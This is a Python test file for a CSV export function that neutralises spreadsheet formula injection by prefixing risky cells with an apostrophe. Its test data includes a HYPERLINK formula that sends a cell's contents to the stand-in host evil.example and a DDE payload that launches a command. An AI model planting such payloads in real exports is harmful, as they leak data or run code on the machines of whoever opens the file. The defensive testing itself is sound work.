"""CSV cells a spreadsheet would evaluate as formulas arrive as text."""

from __future__ import annotations

import csv
import io

import pytest

from lti_tool.csv_export import render, safe_cell


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_starting_like_a_formula_gets_an_apostrophe(hostile):
    assert safe_cell(hostile) == "'" + hostile


def test_ordinary_text_and_numbers_are_unchanged():
    assert safe_cell("Alice Candidate") == "Alice Candidate"
    assert safe_cell("a=b") == "a=b"  # only the first character makes a formula
    assert safe_cell(12) == 12
    assert safe_cell(-3.5) == -3.5  # numbers stay numbers: the trainer can sum them
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_rendered_rows_read_back_as_neutralised_text():
    text = render(["candidat", "points"], [['=HYPERLINK("x")', 4], ["Bob", -1]])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["candidat", "points"], ['\'=HYPERLINK("x")', "4"], ["Bob", "-1"]]
